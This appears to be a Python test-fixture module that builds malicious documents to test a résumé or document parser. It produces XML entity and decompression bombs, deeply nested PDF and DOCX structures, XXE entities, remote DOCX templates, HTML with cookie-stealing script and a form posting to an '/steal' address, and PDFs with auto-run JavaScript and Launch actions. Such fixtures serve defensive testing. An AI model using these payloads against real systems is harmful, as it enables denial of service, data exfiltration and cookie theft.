"""Files that were made to harm, written byte by byte: bombs, and what wants to be fetched or run."""

import io
import zlib
from functools import cache

from PIL import PngImagePlugin

from tests.parsing.documents.making import make_docx, make_pdf, paragraph, show

SCRIPT = "steal(document.cookie)"
WORD = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
PERSON = "姓名：骆嘉禾\n电话：13800138000\n邮箱：luo@example.com\n教育经历\n2015.09-2019.06 湖南师范大学 统计学 本科"
MEGABYTE = 1024 * 1024


# ---------------------------------------------------------------- bombs


def document_xml(head, text):
    body = "".join(f"<w:p><w:r><w:t>{line}</w:t></w:r></w:p>" for line in text.splitlines())
    return f"{head}<w:document {WORD}><w:body>{body}</w:body></w:document>"


def billion_laughs():
    levels = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    head = f'<!DOCTYPE d [<!ENTITY l0 "哈哈">{levels}]>'
    return make_docx("", {"word/document.xml": document_xml(head, "甲&l9;乙")})


def quadratic():
    head = f'<!DOCTYPE d [<!ENTITY a "{"哈" * 100_000}">]>'
    return make_docx("", {"word/document.xml": document_xml(head, "&a;" * 9999)})


@cache
def scanned(width, height, *, bits=1):
    """A PDF whose one page is a picture of zeros, as large as it says."""
    pixels = zlib.compressobj()
    row = bytes((width * bits + 7) // 8)
    packed = b"".join(pixels.compress(row) for _ in range(height)) + pixels.flush()
    head = f"<</Type/XObject/Subtype/Image/Width {width}/Height {height}/BitsPerComponent {bits}"
    head += f"/ColorSpace/DeviceGray/Filter/FlateDecode/Length {len(packed)}>>\nstream\n"
    picture = head + packed.decode("latin-1") + "\nendstream"
    page = "/Resources<</XObject<</I 20000 0 R>>>>"
    return make_pdf("q 595 0 0 842 0 0 cm /I Do Q", page=page, objects=[picture])


@cache
def huge_png(side=50_000):
    """A true PNG of side × side white pixels, 300 kB."""
    packed = zlib.compressobj(9)
    rows = b"\0" + b"\xff" * (side // 8)
    data = b"".join(packed.compress(rows) for _ in range(side)) + packed.flush()
    out = io.BytesIO(b"\x89PNG\r\n\x1a\n")
    out.seek(0, io.SEEK_END)
    for kind, content in ((b"IHDR", side.to_bytes(4) * 2 + b"\1\0\0\0\0"), (b"IDAT", data), (b"IEND", b"")):
        PngImagePlugin.putchunk(out, kind, content)
    return out.getvalue()


def flate_bomb(size=200 * MEGABYTE):
    """A page whose content is a few hundred megabytes of nothing, in as many kilobytes."""
    packed = zlib.compress(b" " * size, 9)
    stream = f"<</Length {len(packed)}/Filter/FlateDecode>>\nstream\n{packed.decode('latin-1')}\nendstream"
    return make_pdf(show(PERSON, 50, 50), page="/Contents 20000 0 R", objects=[stream])


def endless_stream():
    """Neither its length nor its end is told."""
    data = make_pdf(show("甲", 50, 50))
    return data[: data.rindex(b"endstream")].replace(b"/Length", b"/Lengthless") + b"BT (x) Tj ET " * 100_000


def nested_arrays(depth=200_000):
    return make_pdf(show("甲", 50, 50), page=f"/Nested {'[' * depth}{']' * depth}")


def nested_content(depth=200_000):
    return make_pdf("[" * depth + show("甲", 50, 50))


def form_of_itself():
    own = "/Resources<</XObject<</F 20000 0 R>>>>"
    form = f"<</Type/XObject/Subtype/Form/BBox[0 0 9 9]{own}/Length 11>>\nstream\n/F Do /F Do\nendstream"
    return make_pdf("/F Do /F Do", page=own, objects=[form])


def pages_within_pages(depth=3000):
    kids = [f"<</Type/Pages/Count 1/Kids[{20_001 + n} 0 R]/Parent {19_999 + n} 0 R>>" for n in range(depth)]
    return make_pdf("", objects=kids).replace(b"/Kids[100 0 R]", b"/Kids[20000 0 R]")


def nested_tables(depth=5000):
    cell = "<w:tbl><w:tr><w:tc>", "</w:tc></w:tr></w:tbl>"
    return make_docx(cell[0] * depth + paragraph("甲") + cell[1] * depth)


# ---------------------------------------------------------------- what calls `address`, or wants to be run


def external_entity(address):
    head = f'<!DOCTYPE d [<!ENTITY x SYSTEM "{address}">]>'
    return make_docx("", {"word/document.xml": document_xml(head, PERSON.replace("湖南", "&x;湖南"))})


def parameter_entity(address):
    head = f'<!DOCTYPE d [<!ENTITY % x SYSTEM "{address}"> %x;]>'
    return make_docx("", {"word/document.xml": document_xml(head, PERSON)})


def remote_parts(address):
    parts = {
        "word/header1.xml": f"<w:hdr {WORD}>{paragraph('页眉')}</w:hdr>",
        "word/settings.xml": f"<w:settings {WORD}/>",
    }
    wanted = [("t", "attachedTemplate", f"{address}/evil.dotm"), ("i", "image", f"{address}/pixel.png")]
    return make_docx("".join(map(paragraph, PERSON.splitlines())), parts, wanted)


def web_page(address):
    lines = "".join(f"<p>{line}</p>" for line in PERSON.splitlines())
    return f"""<html><head><base href="{address}/"><meta http-equiv="refresh" content="0;url={address}">
    <link rel="stylesheet" href="{address}/a.css"><style>@import url({address}/b.css); 
    p {{background:url(c.png)}}</style>
    <script src="{address}/d.js"></script><script>{SCRIPT}</script></head><body onload="{SCRIPT}">{lines}
    <img src="{address}/pixel.png" onerror="{SCRIPT}"><iframe src="{address}/e.html"></iframe>
    <object data="{address}/f.swf"></object><video src="{address}/g.mp4"></video>
    <form action="{address}/steal"><input name="a" value="b"><button>提交</button></form>
    <svg><script>{SCRIPT}</script><image href="{address}/h.png"/></svg></body></html>""".encode()


def archived_page(address):
    head = b'MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary="x"\r\n\r\n--x\r\n'
    page = b"Content-Type: text/html; charset=utf-8\r\n\r\n" + web_page(address)
    remote = f"Content-Type: message/external-body; access-type=URL; URL={address}/x\r\n\r\n"
    return head + page + b"\r\n--x\r\n" + remote.encode() + b"\r\n--x--"


def active_pdf(address):
    script = f"<</S/JavaScript/JS(this.submitForm\\('{address}'\\); {SCRIPT.replace('(', '').replace(')', '')})>>"
    deeds = f"/AA<</O {script}/C<</S/URI/URI({address})>>>>"
    link = f"<</Type/Annot/Subtype/Link/Rect[0 0 595 842]/A<</S/Launch/F(/bin/true)/URI({address})>>>>"
    data = make_pdf(
        "\n".join(show(line, 50, 50 + 20 * n) for n, line in enumerate(PERSON.splitlines())),
        page=deeds,
        annotations=link,
    )
    return data.replace(b"/Type/Catalog", f"/Type/Catalog/OpenAction {script}".encode())


def far_picture(address):
    return f"# 骆嘉禾\n\n{PERSON}\n\n![a]({address}/a.png)\n\n<script>{SCRIPT}</script>".encode()
